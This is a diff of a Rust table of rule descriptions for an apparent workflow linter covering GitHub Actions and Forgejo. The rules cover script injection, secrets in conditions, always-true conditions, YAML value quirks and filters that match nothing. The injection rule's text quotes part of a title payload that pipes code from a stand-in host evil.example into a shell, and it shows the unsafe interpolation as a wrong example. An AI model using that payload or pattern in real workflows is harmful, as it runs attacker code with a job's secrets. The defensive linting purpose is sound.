@@ -3,6 +3,8 @@
 //! Purpose: names, defaults, texts and examples. Owner: [`Rule::about`].
 //! Invariant: the order is that of [`Rule`], which a test looks at.
 
+mod of_values;
+
 use super::{
     About, Example, Frame,
     Level::{Off, Warn},
@@ -29,7 +31,7 @@ const fn action(text: &'static str) -> Example {
     of(Frame::Action, text)
 }
 
-pub(super) static TABLE: [About; 32] = [
+pub(super) static TABLE: [About; 33] = [
     About {
         rule: Rule::UntrustedInput,
         name: "untrusted-input",
@@ -39,7 +41,8 @@ pub(super) static TABLE: [About; 32] = [
                 https://evil.example | sh; \"` runs what it says, with the job's token and secrets. So it is \
                 with bodies and titles of issues, pull requests, comments and reviews, names of branches that \
                 pull requests come from, and messages and authors of commits, in `run` and in `script` of \
-                `actions/github-script`. A variable of `env` is never read as code.",
+                `actions/github-script`. What a shell reads from a variable, `$TITLE`, is never code; \
+                `${{ env.TITLE }}` is put into the script like everything else.",
         wrong: steps(
             r#"- run: echo "new issue ${{ github.event.issue.title }}"
 "#,
@@ -56,8 +59,8 @@ pub(super) static TABLE: [About; 32] = [
         name: "secret-in-if",
         level: Warn,
         finds: "`secrets` in an `if`",
-        costs: "GitHub refuses the workflow. On Forgejo it works, and whether the step was skipped tells \
-                everybody something about the secret. A boolean in `env` says only whether there is one.",
+        costs: "GitHub refuses the workflow. Forgejo takes it, so that nothing is said of files below `.forgejo` and \
+                `.gitea`, unless the rule is an error. A boolean in `env` works on both.",
         wrong: steps(
             "- if: secrets.KEY != ''
   run: ./publish
@@ -85,10 +88,10 @@ pub(super) static TABLE: [About; 32] = [
         rule: Rule::IfAlwaysTrue,
         name: "if-always-true",
         level: Warn,
-        finds: "an `if` with text around its `${{ }}`",
+        finds: "an `if` with text around its `${{ }}`, or with a text that is compared with nothing",
         costs: "What stands outside of `${{ }}` makes the whole a text, and text that is not empty is true: the \
                 step always runs. So it is with a blank in quotes, and with the line feed at the end of a `|` \
-                block.",
+                block. In `x == 'a' || 'b'` the `'b'` is true by itself.",
         wrong: steps(
             "- if: ${{ github.ref }} == 'refs/heads/main'
   run: ./publish
@@ -100,6 +103,7 @@ pub(super) static TABLE: [About; 32] = [
 ",
         ),
     },
+    of_values::NEVER_EQUAL,
     About {
         rule: Rule::MatrixInJobIf,
         name: "matrix-in-job-if",
@@ -224,83 +228,11 @@ if: matrix.os == 'debian'
     mode: [release]
 "),
     },
-    About {
-        rule: Rule::NumberAsVersion,
-        name: "number-as-version",
-        level: Warn,
-        finds: "a number that is not printed as it is written, such as `3.10`",
-        costs: "Without quotes `3.10` is the number 3.1, and `1e3` is 1000: the wrong version is tested, or one \
-                that is not there.",
-        wrong: job("strategy:
-  matrix:
-    python: [3.9, 3.10]
-"),
-        right: job("strategy:
-  matrix:
-    python: ['3.9', '3.10']
-"),
-    },
-    About {
-        rule: Rule::OctalNumber,
-        name: "octal-number",
-        level: Warn,
-        finds: "a number that begins with a zero",
-        costs: "`0755` is the number 755 by YAML 1.2, and 493 for Forgejo's server, which reads it as octal.",
-        wrong: job("strategy:
-  matrix:
-    mode: [0755]
-"),
-        right: job("strategy:
-  matrix:
-    mode: ['0755']
-"),
-    },
-    About {
-        rule: Rule::NumberWithUnderscores,
-        name: "number-with-underscores",
-        level: Warn,
-        finds: "digits with underscores between them",
-        costs: "`1_000` is text by YAML 1.2, and the number 1000 for Forgejo's server.",
-        wrong: job("strategy:
-  matrix:
-    size: [1_000]
-"),
-        right: job("strategy:
-  matrix:
-    size: [1000]
-"),
-    },
-    About {
-        rule: Rule::DateAsText,
-        name: "date-as-text",
-        level: Warn,
-        finds: "a date without quotes",
-        costs: "`2026-01-31` is text by YAML 1.2, and a time for Forgejo's server, which prints it as \
-                `2026-01-31 00:00:00 +0000 UTC`.",
-        wrong: job("strategy:
-  matrix:
-    day: [2026-01-31]
-"),
-        right: job("strategy:
-  matrix:
-    day: ['2026-01-31']
-"),
-    },
-    About {
-        rule: Rule::YesOrNo,
-        name: "yes-or-no",
-        level: Warn,
-        finds: "`yes`, `no`, `on` or `off` without quotes in a matrix",
-        costs: "They are text by YAML 1.2, and text is true, also `no` and `off`.",
-        wrong: job("strategy:
-  matrix:
-    debug: [yes, no]
-"),
-        right: job("strategy:
-  matrix:
-    debug: [true, false]
-"),
-    },
+    of_values::NUMBER_AS_VERSION,
+    of_values::OCTAL_NUMBER,
+    of_values::NUMBER_WITH_UNDERSCORES,
+    of_values::DATE_AS_TEXT,
+    of_values::YES_OR_NO,
     About {
         rule: Rule::HashBeginsComment,
         name: "hash-begins-comment",
@@ -366,9 +298,10 @@ if: matrix.os == 'debian'
         rule: Rule::AdmitsNothing,
         name: "admits-nothing",
         level: Warn,
-        finds: "a filter, or a pattern of it, that nothing can be like",
+        finds: "a filter, a pattern of it or an event that nothing can be like",
         costs: "Patterns with `!` take out of what the ones before them let in: where none lets in anything, nothing \
-                starts the workflow. Neither does a regular expression, or a path that begins with `./` or `/`.",
+                starts the workflow. Neither does a regular expression, a path that begins with `./` or `/`, a branch \
+                that begins with `refs/heads/`, or what only webhooks call so, such as `action_run_failure`.",
         wrong: on("on:
   push:
     branches: ['!wip/**']
